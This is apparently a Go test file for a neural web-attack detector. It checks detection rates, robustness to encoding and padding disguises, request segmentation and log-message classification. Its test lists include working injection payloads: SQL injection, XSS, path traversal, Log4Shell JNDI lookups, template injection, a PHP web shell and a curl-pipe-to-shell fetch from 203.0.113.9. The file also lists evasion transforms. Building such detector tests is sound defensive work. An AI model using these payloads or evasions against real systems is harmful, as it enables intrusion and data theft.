package witness

import (
	"bufio"
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"flag"
	"fmt"
	"net/url"
	"os"
	"strings"
	"testing"

	"github.com/helixvanguard/vanguard/event"
	"github.com/helixvanguard/vanguard/models"
	"github.com/helixvanguard/vanguard/neural"
)

var update = flag.Bool("update", false, "write testdata/scores.txt anew; review the diff")

func shipped(t testing.TB) *Witness {
	t.Helper()
	m, err := neural.Load(models.Weights)
	if err != nil {
		t.Fatal(err)
	}
	return New(m)
}

// attacks and harmless are pieces as they stand in a request. The model must find nearly all of the first and none of the second.
var (
	attacks = []string{
		"1' OR '1'='1", "-1 UNION SELECT username,password FROM users-- -", "1 AND SLEEP(5)", "1);WAITFOR DELAY '0:0:5'--", "x' AND extractvalue(1,concat(0x7e,version()))-- ",
		"1' ORDER BY 10#", "admin'-- ", "1 and ascii(substring((select database()),1,1))>64", "'; DROP TABLE orders; --", "1' AND 1=CONVERT(int,(SELECT @@version))--",
		"<script>alert(1)</script>", "\"><img src=x onerror=alert(document.cookie)>", "<svg/onload=confirm(1)>", "javascript:alert(document.domain)", "'-prompt(1)-'",
		"<iframe src=\"javascript:alert(1)\"></iframe>", "\" autofocus onfocus=alert(1) x=\"", "<details open ontoggle=alert(1)>",
		"../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "php://filter/convert.base64-encode/resource=index.php", "....//....//etc/shadow", "file:///etc/passwd", "/var/www/../../etc/passwd",
		";cat /etc/passwd", "127.0.0.1 && whoami", "$(curl http://203.0.113.9/x.sh|sh)", "`id`", "|| ping -c 5 203.0.113.9", "() { :;}; /bin/bash -c 'id'", "<?php system($_GET['c']); ?>",
		"T(java.lang.Runtime).getRuntime().exec('id')", "${jndi:ldap://203.0.113.9/a}", "${${lower:j}ndi:rmi://203.0.113.9/x}", "{{7*7}}", "{{''.__class__.__mro__[1].__subclasses__()}}", "${7*7}",
		"<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>", "http://169.254.169.254/latest/meta-data/iam/", "gopher://127.0.0.1:6379/_INFO", "' || '1'=='1", "*)(uid=*))(|(uid=*",
	}
	harmless = []string{
		"O'Reilly", "rock & roll", "c++ or c#", "1 or 2 people", "\"exact phrase\" -other", "how to select all rows from a table in sql", "it's 5 > 3, isn't it?", "I <3 you; really",
		"C:\\Users\\anna\\Documents\\tax.pdf", "http://localhost:3000/callback", "https://www.example.com/a?b=c&d=e", "{\"name\":\"Anna\",\"tags\":[\"a\",\"b\"]}", "<p>Hello <b>world</b></p>",
		"price gt 10 and name eq 'Milk'", "status = 'open' AND assignee = currentUser()", "Hello {{name}}, welcome", "*/5 * * * *", "^[a-z]+(\\.[a-z]+)*$", "if (a > 0 && b < 10) return a;",
		"query { user(id: 7) { name email } }", "купить телефон (недорого)", "café d'hôtel à Paris; s'il vous plaît", "東京 ホテル", "rate(http_requests_total{job=\"api\"}[5m])", "+1 (555) 010-4477 ext. 9",
		"50% off + free shipping; ends 12/31", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl", "data:image/png;base64,iVBORw0KGgoAAAANSUhEUg==", "Smith & Sons (Pty) Ltd.", "a=1;b=2;c=3", "[2024-01-01 TO 2024-12-31]",
		"My script died; the cat ate my homework", "drop table lamp", "order by phone", "/admin/users/42/edit", "src/**/*.go", "@user #tag :-)", "background: rgb(10, 20, 30); width: 50%",
	}
)

func suspect(s *Scorer, kind neural.Kind, raw string) bool {
	return s.Opinion(Segment{event.Query, kind, []byte(raw)}).Suspect
}

func TestKnowsItsTrade(t *testing.T) {
	s := shipped(t).NewScorer()
	missed := 0
	for _, text := range attacks {
		if o := s.Opinion(Segment{event.Query, neural.Param, []byte(text)}); !o.Suspect {
			missed++
			t.Logf("missed at %.2f: %q", o.Probability, text)
		}
	}
	if missed > len(attacks)/20 {
		t.Errorf("%d of %d attacks are missed", missed, len(attacks))
	}
	for _, text := range harmless {
		if o := s.Opinion(Segment{event.Query, neural.Param, []byte(text)}); o.Suspect {
			t.Errorf("suspects %q of %s at %.2f", text, o.Threat, o.Probability)
		}
	}
}

// maxLost is how many of the attacks a family of disguises may cost.
const maxLost = 4

// TestRobust disguises the attacks.
func TestRobust(t *testing.T) {
	s := shipped(t).NewScorer()
	each := func(f func(c byte) string) func(string) string {
		return func(text string) string {
			var b strings.Builder
			for _, c := range []byte(text) {
				b.WriteString(f(c))
			}
			return b.String()
		}
	}
	families := map[string]func(string) string{
		"upper case":     strings.ToUpper,
		"mixed case":     func(s string) string { return mixed(s) },
		"tabs":           func(s string) string { return strings.ReplaceAll(s, " ", "%09") },
		"line ends":      func(s string) string { return strings.ReplaceAll(s, " ", "%0a") },
		"many blanks":    func(s string) string { return strings.ReplaceAll(s, " ", "    ") },
		"comments":       func(s string) string { return strings.ReplaceAll(s, " ", "/**/") },
		"percent":        url.QueryEscape,
		"percent twice":  func(s string) string { return url.QueryEscape(url.QueryEscape(s)) },
		"percent all":    each(func(c byte) string { return fmt.Sprintf("%%%02x", c) }),
		"unicode":        each(func(c byte) string { return fmt.Sprintf("\\u%04x", c) }),
		"html":           each(func(c byte) string { return fmt.Sprintf("&#%d;", c) }),
		"harmless front": func(s string) string { return "thank you for the quick answer " + s },
		"harmless end":   func(s string) string { return s + " thank you for the quick answer" },
		"padded to 4 KB": func(s string) string { return strings.Repeat("a long letter ", 290) + s },
		"padded behind":  func(s string) string { return s + strings.Repeat(" a long letter", 290) },
		"cut by a tenth": func(s string) string { return s[:len(s)-len(s)/10] },
	}
	found := map[string]bool{}
	for _, text := range attacks {
		found[text] = suspect(s, neural.Param, text)
	}
	for name, f := range families {
		lost := 0
		for _, text := range attacks {
			if found[text] && !suspect(s, neural.Param, f(text)) {
				lost++
				t.Logf("%s: lost %q", name, text)
			}
		}
		if lost > maxLost {
			t.Errorf("%s: %d of %d attacks are lost", name, lost, len(attacks))
		}
	}
}

func mixed(s string) string {
	b := []byte(s)
	for i := range b {
		if i%2 == 0 {
			b[i] = bytes.ToUpper(b[i : i+1])[0]
		}
	}
	return string(b)
}

// TestSameScores pins the shipped model's scores; it also runs as WebAssembly.
func TestSameScores(t *testing.T) {
	const golden = "testdata/scores.txt"
	w := shipped(t)
	s := w.NewScorer()
	var out bytes.Buffer
	fmt.Fprintln(&out, w.model.Name, w.model.Hash)
	for _, text := range append(append([]string{}, attacks...), harmless...) {
		sc := s.score(&Segment{event.Query, neural.Param, []byte(text)})
		fmt.Fprintf(&out, "%d %d %s %q\n", sc.Logit, sc.P, w.model.Web.Classes[sc.Class], text)
	}
	if *update {
		if err := os.WriteFile(golden, out.Bytes(), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(golden)
	if err != nil {
		t.Fatal(err)
	}
	a, b := bufio.NewScanner(&out), bufio.NewScanner(bytes.NewReader(want))
	for a.Scan() {
		if !b.Scan() || a.Text() != b.Text() {
			t.Fatalf("got  %s\nwant %s", a.Text(), b.Text())
		}
	}
}

func TestHash(t *testing.T) {
	const head = len("VANGUARDNET2") + 16
	want := sha256.Sum256(models.Weights[head:])
	if got := shipped(t).model.Hash; got != hex.EncodeToString(want[:16]) {
		t.Errorf("the weights file states the hash %s; its bytes have %x", got, want[:16])
	}
}

func TestParts(t *testing.T) {
	f := func(text string, want bool) {
		t.Helper()
		if got := Parts(nil, []byte(text)); len(got) > 0 != want {
			t.Errorf("Parts(%q) = %v", text, got)
		}
	}
	for _, text := range []string{"", "a", "o'brien", "rock & roll", "50% off", "c++ or c#", "anna@example.com", "1 or 2", "drop table lamp", "and/or", "a - b -- c"[:5], "https://www.example.com/a/b-c.html", "http://example.com/?a=b&c=d", "¿qué?",
		`["",{"children":["__page__",{}]},null,null,true]`, `{"items":[{"id":3,"n":-1.5}],"all":false}`, `[["name","=","x"],["id",">",4]]`,
		`pip/23.3.2 {"ci":true,"distro":{"id":"jammy","version":"22.04"}}`} {
		f(text, false)
	}
	for _, text := range []string{"' or", "a;b", "<b>", "1 union select 2", "1 or 1#", "x--", "../x", "/etc/passwd", "$xy", "http://127.0.0.1/", "http://localhost/", "http://0x7f000001/", "http://metadata.google.internal/", "https://example.com/<x>", "java.lang.runtime", "a=b",
		`{"$ne":null}`, `{"a":"<b>"}`, `{"a":1};x`, `{"a":"x"`, `["a"]or[1]`, `{"a":"b\"<x>"}`, `{{7*7}}`, `[a]`,
		`pip/23.3.2 {"ci":"$(id)"}`, `find {"$ne":null}`, `a/1 ${b}`, `a{{7*7}}`} {
		f(text, true)
	}
}

func TestPartsOfLongTexts(t *testing.T) {
	words := strings.Repeat("some words ", 400)
	f := func(text string, want ...string) {
		t.Helper()
		var got []string
		for _, p := range Parts(nil, []byte(text)) {
			got = append(got, text[p[0]:p[1]])
		}
		if strings.Join(got, "\n") != strings.Join(want, "\n") {
			t.Errorf("Parts of %d bytes: %q, want %q", len(text), got, want)
		}
	}
	f(words)
	before, behind := "words some words ", "some words some" // whole words of the nearest bytes
	f(words+"<b>", before+"<b>")
	f("<b>"+words, "<b>"+behind)
	f("<b>"+words+"<i>", "<b>"+behind, before+"<i>")
	solid := strings.Repeat("x", 100) // no words: cut anywhere
	f(solid+"<b>"+solid, solid[:nearby]+"<b>"+solid[:nearby])
	long := strings.Repeat("<x>", 10000)
	parts := Parts(nil, []byte(long))
	if len(parts) != maxParts || parts[0][0] != 0 || parts[maxParts-1] != [2]int{len(long) - maxPart, len(long)} {
		t.Errorf("%d parts: %v", len(parts), parts)
	}
	for i, p := range Parts(nil, []byte(long[:3000])) {
		if p[1]-p[0] > maxPart || i > 0 && p[0] > parts[i-1][1] {
			t.Errorf("part %d is %v", i, p)
		}
	}
}

func cutText(fields map[event.Field]string) (pieces []string) {
	var ev event.Event
	ev.Reset()
	for f, v := range fields {
		ev.Set(f, []byte(v))
	}
	for _, s := range Cut(nil, &ev) {
		pieces = append(pieces, s.Kind.String()+" "+string(s.Raw))
	}
	return pieces
}

func TestCut(t *testing.T) {
	f := func(field event.Field, text string, want ...string) {
		t.Helper()
		if got := cutText(map[event.Field]string{field: text}); strings.Join(got, "\n") != strings.Join(want, "\n") {
			t.Errorf("Cut(%s %q) = %q, want %q", field, text, got, want)
		}
	}
	f(event.Path, "/blog/2026/a-b.html")
	f(event.Path, "/a/%2e%2e/b", "path /a/%2e%2e/b")
	f(event.Path, "/a/../b", "path /a/../b")
	f(event.Query, "a=1&b=two&c=a.b-c_d")
	f(event.Query, "a=1%27&b=2&c=%3Cb%3E", "parameter 1%27", "parameter %3Cb%3E")
	f(event.Query, "sort=new?utm_source=mail&d=%27?x=%3Cb%3E&q=%3Ci%3E?", "parameter %27", "parameter %3Cb%3E", "parameter %3Ci%3E?")
	f(event.Query, "x[$ne]=1", "parameter x[$ne]=1")
	f(event.Query, "u=java.lang.Runtime", "parameter java.lang.Runtime")
	f(event.Query, "t=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg", "parameter PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg")
	f(event.UserAgent, "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0")
	f(event.UserAgent, "() { :;}; id", "agent () { :;}; id")
	f(event.Referer, "https://www.example.com/a?q=%27x&r=1", "referer %27x")
	f(event.Body, `{"a":"b","c":{"d":"x' or 1=1"},"e":[1,true,null]}`, "json x' or 1=1")
	f(event.Body, `{"a":"b"} ; drop`, `body {"a":"b"} ; drop`)
	f(event.Body, "a=1&b=x%3By", "parameter x%3By")
	f(event.Body, "<a>b</a>", "body <a>b</a>")
	f(event.Body, "--x1y2z3a4\nContent-Disposition: form-data; name=\"f\"; filename=\"a.php;.jpg\"\n\n<?php x\n--x1y2z3a4--", "parameter a.php;.jpg", "parameter <?php x")
	f(event.Cookie, "a=1; b=x'y; c=2", "parameter x'y")
	f(event.Headers, `{"user-agent":"curl/8.5.0","x":"${jndi:x}"}`, "agent ${jndi:x}")
	f(event.Headers, `[{"name":"Accept","value":"*/*"},{"name":"accept","value":"text/html,application/xhtml+xml;q=0.9, image/*, */*;q=0.8"}]`)
	f(event.Headers, `{"accept":"1/**/or/**/1","x":"a*/b"}`, "agent 1/**/or/**/1", "agent a*/b")
	f(event.Headers, "\"Chromium\";v=\"124.0.6367.60\", \"Not-A.Brand\";v=\"99\"")
	f(event.Headers, "for=\"[2001:db8::1]:4711\";proto=https;by=203.0.113.43")
	f(event.Headers, `{"sec-ch-ua":"\"Chromium\";v=\"124.0.6367.60\", \"Not-A.Brand\";v=\"99\""}`)
	f(event.Headers, `" or "1"="1`, `agent " or "1"="1`)
	f(event.Headers, `1" or 1=1`, `agent 1" or 1=1`)
	f(event.Headers, `"../../etc/passwd"`, `agent "../../etc/passwd"`)
	if n := len(cutText(map[event.Field]string{event.Query: strings.Repeat("a=<b>&", 1000)})); n != maxSegments {
		t.Errorf("%d pieces of one event, want at most %d", n, maxSegments)
	}
}

func requests() (list []*event.Event) {
	for _, text := range append(append([]string{}, attacks...), harmless...) {
		ev := new(event.Event)
		ev.Reset()
		ev.Set(event.Path, []byte("/search"))
		ev.Set(event.Query, []byte("page=1&q="+url.QueryEscape(text)))
		ev.Set(event.UserAgent, []byte("Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"))
		list = append(list, ev)
	}
	return list
}

func TestJudgeAllocatesNothing(t *testing.T) {
	s := shipped(t).NewScorer()
	list := requests()
	var dst []event.Signal
	if n := testing.AllocsPerRun(20, func() {
		clear(s.known) // so that each piece is scored anew
		for _, ev := range list {
			dst = s.Judge(ev, dst[:0], 0)
		}
	}); n != 0 {
		t.Errorf("%v allocations, want 0", n)
	}
}

// TestJudgeAgrees holds what the classifier says beside a rule.
func TestJudgeAgrees(t *testing.T) {
	s := shipped(t).NewScorer()
	ev := new(event.Event)
	ev.Reset()
	ev.Text = []byte("GET /p?a=1&b=1'+union+select+2,3--+ HTTP/1.1")
	ev.Set(event.Query, ev.Text[7:35])
	alone := s.Judge(ev, nil, 0)
	if len(alone) != 1 || alone[0].Detector.Threat != "sql-injection" || !alone[0].Detector.Model || string(ev.Text[alone[0].Span[0]:alone[0].Span[1]]) != "1'+union+select+2,3--+" {
		t.Fatalf("alone: %+v", alone)
	}
	rule := func(threat string, f event.Field) []event.Signal {
		return []event.Signal{{Detector: &event.Detector{Threat: threat, Confidence: 0.9}, Field: f}}
	}
	if got := s.Judge(ev, rule("sql-injection", event.Query), 0); len(got) != 2 || got[1].Detector.Threat != "sql-injection" {
		t.Errorf("beside a rule that agrees: %+v", got)
	}
	if got := s.Judge(ev, rule("cross-site-scripting", event.Query), 0); len(got) != 1 {
		t.Errorf("beside a rule that named these bytes otherwise: %+v", got)
	}
	if got := s.Judge(ev, rule("recon-scanning", event.UserAgent), 0); len(got) != 2 {
		t.Errorf("beside a rule that named other bytes: %+v", got)
	}
	if got := s.Judge(ev, rule("cross-site-scripting", event.Query), 1); len(got) != 2 {
		t.Errorf("signals of another event count: %+v", got)
	}
}

func FuzzCut(f *testing.F) {
	for _, text := range append(append([]string{`{"a":"b\"`, "--xxxxxxxx\nContent-", "a=b&&=&c", "http://?"}, attacks...), harmless...) {
		f.Add([]byte(text))
	}
	s := shipped(f).NewScorer()
	f.Fuzz(func(t *testing.T, text []byte) {
		ev := new(event.Event)
		ev.Reset()
		ev.Text = text
		for _, f := range []event.Field{event.Path, event.Query, event.Referer, event.Cookie, event.Body, event.Headers, event.UserAgent} {
			ev.Set(f, text)
		}
		if n := len(s.Judge(ev, nil, 0)); n > 1 {
			t.Errorf("%d signals", n)
		}
	})
}

func BenchmarkJudge(b *testing.B) {
	s := shipped(b).NewScorer()
	list := requests()
	var dst []event.Signal
	b.Run("remembered", func(b *testing.B) {
		for i := 0; b.Loop(); i++ {
			dst = s.Judge(list[i%len(list)], dst[:0], 0)
		}
	})
	b.Run("new", func(b *testing.B) {
		for i := 0; b.Loop(); i++ {
			if i%len(list) == 0 {
				clear(s.known)
			}
			dst = s.Judge(list[i%len(list)], dst[:0], 0)
		}
	})
}

func TestReadsMessages(t *testing.T) {
	s := shipped(t).NewScorer()
	missed := 0
	f := func(class string, messages ...string) {
		t.Helper()
		for _, m := range messages {
			o := s.Reading([]byte(m))
			switch {
			case class == "" && o.Suspect:
				t.Errorf("%q tells of %s at %.2f", m, o.Threat, o.Probability)
			case class != "" && (!o.Suspect || o.Threat != class):
				missed++
				t.Logf("%q: %s at %.2f, want %s", m, o.Threat, o.Probability, class)
			}
		}
	}
	f("auth-failure", "Login was turned down for bob (wrong secret) from 192.0.2.1", "User anna could not sign in: bad passphrase [192.0.2.7]", "authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=192.0.2.9 user=root",
		"sign-in rejected for customer 4711, password does not match", "Invalid credentials supplied by 198.51.100.4")
	f("auth-failure", "mail server: PLAIN sign-in of [192.0.2.9] turned down, no mailbox of that name", "535 5.7.8 username and password do not go together", "530 sorry, bad login for anna", "directory bind as uid=anna refused: wrong password",
		"registration of <sip:700@192.0.2.5> rejected: wrong password", "client closed the connection (auth failed, 4 attempts in 9 secs): user=<anna>", "vpn: password of peer bob not verified, session dropped", "failed hostbased for anna from 192.0.2.8 port 4711 ssh2",
		"panel: no account named root2, login from 192.0.2.3 refused", "devise: invalid email or password for anna@example.com", "RADIUS login incorrect: [anna] (from client hall port 3)", "database: password authentication failed for user \"anna\" from 192.0.2.6")
	f("access-denied", "rejected rcpt <x@example.com>: relay not permitted", "query for example.com denied for client 192.0.2.4", "policy: anna cannot delete order 12", "host 192.0.2.7 is not allowed to connect to this database")
	f("", "successful login of anna via imap", "session closed for user anna", "retry 3 of 5 in 200 ms", "config: max_login_attempts=5", "health: auth ok, db ok", "failed logins today: 0", "login form test passed", "lost connection after DATA from mail.example.com[192.0.2.5]",
		"no such template: invoice.html", "class Kernel does not exist", "this is a test", "invalid date in line 7", "authentication backend ldap in use", "zone example.com loaded serial 2026112301", "unable to find order 17", "exit (anna): disconnect received",
		"registered sip '700' at 192.0.2.5:5060", "connection reset by 192.0.2.8 port 4711 [preauth]", "pam_unix(sshd:session): session closed for user anna", "too many files in cache, evicting 20")
	f("access-denied", "Unauthorized access attempt detected for API /v1/deleteUser from IP 192.0.2.10", "user carol is not allowed to delete order 77", "Permission denied: bob lacks the role billing", "forbidden: no rights on project 9")
	f("lockout", "Account dave locked after 10 failed attempts", "192.0.2.44 banned for 30 minutes: too many failed login attempts")
	f("privilege", "user eve tried to grant itself admin", "mallory is not in the sudoers file")
	f("rate-limit", "Rate limit exceeded for 198.51.100.9", "throttling client web on /api/v1/search")
	f("token", "JsonWebTokenError: invalid signature", "refresh token reuse detected for user 12")
	f("injection-reported", "possible SQL injection attempt in parameter id from 192.0.2.3", "suspicious input in field comment, looks like XSS")
	f("crash", "panic: runtime error: index out of range", "Uncaught TypeError: cannot read properties of undefined (reading 'id')")
	f("", "order 4711 shipped", "User bob logged in from 192.0.2.1", "connection to db01 lost: timeout", "password changed for user anna", "failed to open config.yaml: no such file or directory", "backup completed in 32 s",
		"cache miss for key user:77", "token issued for client web", "rate limiter initialised: 100 req/min", "payment declined: insufficient funds (order 19)", "server listening on 0.0.0.0:8080", "GET /health 200 1ms",
		"certificate of www.example.com expires in 20 days", "retrying request 3 after error 502")
	if missed > 2 {
		t.Errorf("%d messages are missed", missed)
	}
}

func TestMessagesAllocateNothing(t *testing.T) {
	s := shipped(t).NewScorer()
	ev := new(event.Event)
	ev.Reset()
	ev.Kind = event.KindApp
	ev.Set(event.Message, []byte("loginFailed: user_name=bob tried to sign in with a wrong password from 192.0.2.1 at /v1/login"))
	var dst []event.Signal
	if n := testing.AllocsPerRun(20, func() { dst = s.Judge(ev, dst[:0], 0) }); n != 0 {
		t.Errorf("%v allocations, want 0", n)
	}
}
